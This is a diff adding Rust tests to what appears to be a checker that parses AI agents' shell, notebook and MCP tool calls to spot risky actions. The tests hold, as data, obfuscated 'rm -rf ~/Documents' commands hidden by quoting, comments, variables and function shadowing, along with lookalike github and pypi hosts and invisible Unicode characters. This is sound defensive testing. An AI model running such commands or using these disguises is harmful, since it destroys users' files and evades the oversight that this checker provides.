@@ -3,7 +3,7 @@
 use serde_json::{Value, json};
 
 use super::*;
-use crate::action::{Context, Layer};
+use crate::action::{Context, HostKind, Layer, Scope};
 
 fn call(tool: &str, input: Value) -> ToolCall {
     ToolCall {
@@ -185,6 +185,135 @@ fn the_language_is_the_harness_word_or_the_looks() {
     assert_eq!(normalize(&call).tool, Tool::Shell(Shell::PowerShell));
     assert_eq!(action("PowerShell", json!({"command": "ls"})).tool, Tool::Shell(Shell::PowerShell));
     assert_eq!(action("Bash", json!({"command": "ls"})).tool, Tool::Shell(Shell::Bash));
+}
+
+/// The texts of a Bash tool's units.
+fn bash(command: &str) -> Vec<String> {
+    action("Bash", json!({ "command": command })).units.into_iter().map(|unit| unit.text).collect()
+}
+
+#[test]
+fn a_guessed_language_hides_no_command_of_bash() {
+    for command in [
+        "rem ok\ngit status\necho $(rm -rf ~/Documents)",
+        "git log --oneline | head; Write-Output \\\"; rm -rf ~/Documents; echo \\\"",
+        "git status; echo a`; rm -rf ~/Documents #`\nWrite-Output ok",
+        "ls \"%TEMP%\" ; echo \"$(rm -rf ~/Documents)\"",
+        "hh; ls | grep x; echo \"$(rm -rf ~/Documents)\"",
+        "Get-Date # `rm -rf ~/Documents`\n: <# \nrm -rf ~/Documents\n: #>",
+        "Get-Date; x=rm; $x -rf ~/Documents",
+        "Get-Date; read x <<< rm; $x -rf ~/Documents",
+        "Write-Output() { rm -rf ~/Documents; }; Write-Output",
+    ] {
+        let texts = bash(command);
+        let found = texts.iter().any(|text| matches!(text.as_str(), "rm -rf ~/Documents" | "$x -rf ~/Documents"));
+        assert!(found, "{command}: {texts:?}");
+    }
+}
+
+#[test]
+fn powershell_typed_into_bash_is_read_once() {
+    for command in [
+        "Get-ChildItem -Recurse | Measure-Object",
+        "$files = Get-ChildItem\nforeach ($f in $files) { Write-Host $f.Name }",
+        "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | ForEach-Object { $_.FullName }",
+        "cd src; Get-Content .\\a\\b.txt",
+        "[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('hello'))",
+        "(Get-Content app.config) -replace 'Debug','Release' | Measure-Object",
+    ] {
+        let action = action("Bash", json!({ "command": command }));
+        assert_eq!(action.tool, Tool::Shell(Shell::PowerShell), "{command}: {action:?}");
+        assert!(!action.gaps.contains(Gap::Unparsed), "{command}");
+    }
+}
+
+#[test]
+fn what_bash_alone_would_run_is_read_in_both_languages() {
+    let action = action("Bash", json!({"command": "Get-Date > ~/.bashrc; cd x; Remove-Item a, b"}));
+    assert_eq!(action.tool, Tool::Shell(Shell::Bash));
+    assert!(action.units.iter().any(|unit| unit.kind == UnitKind::Command(Shell::PowerShell)));
+    let mut call = call("Bash", json!({"command": "del a & Get-Item \" & del b"}));
+    call.context.shell = Some("cmd".to_owned());
+    assert!(normalize(&call).units.iter().any(|unit| unit.text == "del a"));
+}
+
+#[test]
+fn a_command_may_come_as_a_list_of_words() {
+    let texts = |tool: &str, input: Value| -> Vec<String> {
+        action(tool, input).units.into_iter().map(|unit| unit.text).collect()
+    };
+    let has = |texts: &[String]| texts.iter().any(|text| text == "rm -rf x");
+    for tool in
+        ["shell", "exec_command", "local_shell", "container.exec", "functions.shell", "run_shell_command", "bash"]
+    {
+        for input in [
+            json!({"command": ["bash", "-lc", "rm -rf x"]}),
+            json!({"command": ["rm", "-rf", "x"]}),
+            json!({"cmd": "rm -rf x"}),
+            json!({"commands": ["ls", "rm -rf x"]}),
+            json!({"command": "rm", "args": ["-rf", "x"]}),
+            json!({"action": {"type": "exec", "command": ["bash", "-lc", "rm -rf x"]}}),
+        ] {
+            assert!(has(&texts(tool, input.clone())), "{tool} {input}: {:?}", texts(tool, input.clone()));
+        }
+    }
+    for tool in ["run_terminal_cmd", "execute_command", "terminal"] {
+        assert_eq!(action(tool, json!({"command": "ls"})).tool, Tool::Shell(Shell::Bash));
+    }
+    for input in [json!({"cmd": ["rm", "-rf", "x"]}), json!({"command": "rm", "args": ["-rf", "x"]})] {
+        assert!(has(&texts("mcp__x__run", input)));
+    }
+    assert!(has(&texts("mcp__x__run", json!({"commands": ["ls -l", "rm -rf x"]}))));
+}
+
+#[test]
+fn commands_in_cells_are_opened() {
+    for source in [
+        "import os\n!rm -rf x",
+        "%%bash\ncd a\nrm -rf x",
+        "%%script bash\nrm -rf x",
+        "out = !rm -rf x",
+        "if a:\n    !rm -rf \\\n  x",
+    ] {
+        let action = action("NotebookEdit", json!({"notebook_path": "n.ipynb", "new_source": source}));
+        assert!(action.units.iter().any(|unit| unit.text == "rm -rf x"), "{source}: {action:?}");
+    }
+    let action = action("mcp__jupyter__execute_code", json!({"code": "import os\n!rm -rf x"}));
+    assert!(action.units.iter().any(|unit| unit.text == "rm -rf x"));
+}
+
+#[test]
+fn disguised_hosts_are_not_the_ones_that_they_look_like() {
+    for (tool, input) in [
+        ("Bash", json!({"command": "git clone https://g\u{456}thub.com/a/b"})),
+        ("Bash", json!({"command": "pip install --index-url https://p\u{443}pi.org/simple x"})),
+        ("WebFetch", json!({"url": "https://g\u{456}thub.com/a"})),
+        ("mcp__x__fetch", json!({"url": "https://g\u{456}thub.com/a"})),
+    ] {
+        let action = action(tool, input.clone());
+        let hosts = action.effects().filter_map(|(_, effect)| effect.target.as_ref());
+        let kinds: Vec<_> = hosts.map(|target| target.scope).filter(|scope| matches!(scope, Scope::Host(_))).collect();
+        assert!(
+            !kinds.is_empty() && kinds.iter().all(|kind| *kind == Scope::Host(HostKind::Other)),
+            "{input}: {kinds:?}"
+        );
+        assert!(action.all_gaps().contains(Gap::Disguised), "{input}");
+    }
+}
+
+#[test]
+fn what_invisible_letters_spell_is_shown_and_not_run() {
+    let action = action("Bash", json!({"command": "ls \u{e0041}\u{e0042}"}));
+    let texts: Vec<_> = action.units.iter().map(|unit| (unit.kind, unit.text.as_str())).collect();
+    assert_eq!(texts, [(UnitKind::Command(Shell::Bash), "ls"), (UnitKind::Data, "hidden: AB")]);
+    assert!(action.gaps.contains(Gap::Disguised));
+}
+
+#[test]
+fn the_books_of_a_harness_have_no_effects_outside() {
+    assert!(facts(&action("TodoWrite", json!({"todos": [{"content": "publish it"}]}))).is_empty());
+    assert!(facts(&action("SlashCommand", json!({"command": "/commit"}))).is_empty());
+    assert_eq!(facts(&action("CronCreate", json!({"cron": "0 9 * * *", "prompt": "x"}))), [Fact::Schedule]);
 }
 
 #[test]
